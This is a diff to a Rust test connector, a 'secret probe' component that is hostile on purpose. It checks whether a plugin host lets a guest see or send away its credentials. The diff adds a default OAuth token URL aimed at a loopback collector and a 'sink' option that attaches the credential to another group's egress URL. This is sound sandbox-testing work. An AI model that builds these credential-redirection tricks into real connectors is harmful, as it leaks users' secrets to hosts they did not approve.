@@ -1,13 +1,22 @@
-//! A connector that tries to learn its own credentials: it makes one
-//! authenticated request and writes everything it can observe (status,
-//! response headers, body, the error if any) into an uploaded record, a log
-//! line and its error message. Tests then look for the secret values in
-//! those places: whatever this guest could see, any guest could leak.
+//! A connector that tries to learn, or send away, its own credentials: it
+//! makes one authenticated request and writes everything it can observe
+//! (status, response headers, body, the error if any) into an uploaded
+//! record, a log line and its error message. Tests then look for the secret
+//! values, in every encoding, in those places: whatever this guest could
+//! see, any guest could leak.
 //!
-//! Config: `api-url` (allowed; requests go to `{api-url}/echo`), an OAuth2
-//! client (`client-id`, secret `client-secret`, token endpoint
-//! `{auth-url}/as/token`), an optional secret `api-token`, and `auth`:
-//! `oauth2` for the brokered token, otherwise the `api-token` field.
+//! Config (one `probe` group, so the credentials belong with its URLs):
+//! `probe-api-url` (requests go to `{probe-api-url}/echo`), an OAuth2 client
+//! (`probe-client-id`, secret `probe-client-secret`, token endpoint
+//! `{probe-auth-url}/as/token`), an optional secret `probe-api-token`, and
+//! `probe-auth`: `oauth2` for the brokered token, otherwise the
+//! `probe-api-token` field. Hostile on purpose:
+//! - `probe-auth-url` defaults to a loopback collector of the component's
+//!   choosing (the discard port): the host must not count that default as
+//!   an origin unless the operator accepted the component's egress.
+//! - `sink-url` is an egress field of another group; with `probe-target`
+//!   `sink` the credential is attached to a request for it, which the host
+//!   must refuse, since the credential is not bound to that origin.
 
 use connector_sdk::http::Request;
 use connector_sdk::{
@@ -18,6 +27,9 @@ use connector_sdk::{
 };
 
 pub struct Probe;
+
+/// Where the component would like its credentials to go.
+pub const COLLECTOR: &str = "http://127.0.0.1:9";
 
 fn field(name: &str, kind: ConfigKind, required: bool, secret: bool) -> ConfigField {
     ConfigField {
@@ -33,6 +45,8 @@ fn field(name: &str, kind: ConfigKind, required: bool, secret: bool) -> ConfigFi
 impl Connector for Probe {
     fn metadata() -> ConnectorMetadata {
         let url = || ConfigKind::Url(UrlOptions { egress: true });
+        let mut auth_url = field("probe-auth-url", url(), true, false);
+        auth_url.default_value = Some(COLLECTOR.into());
         ConnectorMetadata {
             display_name: "Secret probe (test component)".into(),
             description: "Reports everything it observes of its credentials".into(),
@@ -49,18 +63,20 @@ impl Connector for Probe {
                 capabilities: vec![Capability::Sync],
             }],
             config_schema: vec![
-                field("api-url", url(), true, false),
-                field("auth-url", url(), true, false),
-                field("client-id", ConfigKind::Text, true, false),
-                field("client-secret", ConfigKind::Text, true, true),
-                field("api-token", ConfigKind::Text, false, true),
-                field("auth", ConfigKind::Text, false, false),
+                field("probe-api-url", url(), true, false),
+                auth_url,
+                field("probe-client-id", ConfigKind::Text, true, false),
+                field("probe-client-secret", ConfigKind::Text, true, true),
+                field("probe-api-token", ConfigKind::Text, false, true),
+                field("probe-auth", ConfigKind::Text, false, false),
+                field("probe-target", ConfigKind::Text, false, false),
+                field("sink-url", url(), false, false),
             ],
             credential: Some(CredentialRecipe::Oauth2ClientCredentials(
                 Oauth2ClientCredentials {
-                    token_url: "{auth-url}/as/token".into(),
-                    client_id_field: "client-id".into(),
-                    client_secret_field: "client-secret".into(),
+                    token_url: "{probe-auth-url}/as/token".into(),
+                    client_id_field: "probe-client-id".into(),
+                    client_secret_field: "probe-client-secret".into(),
                     auth_method: ClientAuthMethod::ClientSecretBasic,
                     scope: None,
                 },
@@ -78,14 +94,15 @@ impl Connector for Probe {
     }
 
     fn sync(cx: &Context, _task: SyncTask) -> Result<PageOutcome, ConnectorError> {
-        let auth = match cx.config.get("auth") {
+        let auth = match cx.config.get("probe-auth") {
             Some("oauth2") => Auth::OAuth2,
-            _ => Auth::SecretField("api-token".into()),
+            _ => Auth::SecretField("probe-api-token".into()),
         };
-        let url = format!(
-            "{}/echo",
-            cx.config.require("api-url")?.trim_end_matches('/')
-        );
+        let base = match cx.config.get("probe-target") {
+            Some("sink") => cx.config.require("sink-url")?,
+            _ => cx.config.require("probe-api-url")?,
+        };
+        let url = format!("{}/echo", base.trim_end_matches('/'));
         let req = Request::get(&url).header("x-probe", "observing");
         let resp = match cx.host.send(&req, &auth) {
             Ok(resp) => resp,
